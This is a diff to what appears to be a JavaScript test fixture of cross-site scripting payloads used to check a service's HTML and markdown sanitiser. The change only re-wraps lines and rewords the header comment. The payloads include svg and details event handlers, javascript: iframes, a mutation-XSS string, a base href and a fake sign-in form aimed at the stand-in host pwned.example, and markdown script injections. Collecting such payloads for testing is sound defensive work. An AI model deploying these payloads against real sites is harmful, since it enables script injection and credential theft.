@@ -1,6 +1,7 @@
 /**
- * Texts that would do something in a page that is not careful, in the manner of public collections of such texts; written for this service. Whatever
- * of it runs calls `pwned()`, asks for something below /pwned or at pwned.example, opens a dialog, or leaves the page.
+ * Texts that would run code in a careless page, in the manner of public collections of such texts,
+ * written for this service. Each of them calls `pwned()`, requests something below /pwned or at
+ * pwned.example, opens a dialog, or leaves the page if it runs.
  */
 const SCRIPT = 'pwned()';
 
@@ -14,14 +15,17 @@ const html = [
   `<svg onload=${SCRIPT}>`,
   `<svg><script>${SCRIPT}</script></svg>`,
   `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ' +
+    `onerror=${SCRIPT}&gt;">`,
   `<iframe src="javascript:parent.${SCRIPT}"></iframe>`,
   `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
   `<object data="/pwned"></object><embed src="/pwned">`,
-  `<link rel=stylesheet href=/pwned.css><style>@import "/pwned.css";body{background:url(/pwned.png)}</style>`,
+  '<link rel=stylesheet href=/pwned.css><style>@import ' +
+    '"/pwned.css";body{background:url(/pwned.png)}</style>',
   `<meta http-equiv="refresh" content="0;url=/pwned">`,
   `<base href="//pwned.example/">`,
-  `<form action="//pwned.example/"><input name=key autofocus onfocus=${SCRIPT}><button>Sign in</button></form>`,
+  '<form action="//pwned.example/"><input name=key autofocus ' +
+    `onfocus=${SCRIPT}><button>Sign in</button></form>`,
   `<body onload=${SCRIPT}>`,
   `<details open ontoggle=${SCRIPT}>`,
   `<video autoplay src=/pwned.mp4 onerror=${SCRIPT}><source onerror=${SCRIPT} src=/pwned>`,
@@ -86,7 +90,8 @@ const blocks = [
   '    <script>pwned()</script>',
   '`<script>pwned()</script>`',
   '# <img src=x onerror=pwned()>',
-  '| <script>pwned()</script> | b |\n|:-:|---|\n| <img src=x onerror=pwned()> | [x](javascript:pwned()) |',
+  '| <script>pwned()</script> | b |\n|:-:|---|\n| <img src=x onerror=pwned()> | ' +
+    '[x](javascript:pwned()) |',
   '> <script>pwned()</script>\n> - <svg onload=pwned()>',
   '* [ ] <input autofocus onfocus=pwned()>',
   '[x]: <javascript:pwned()> "t"\n[x][x] ![x][x]',
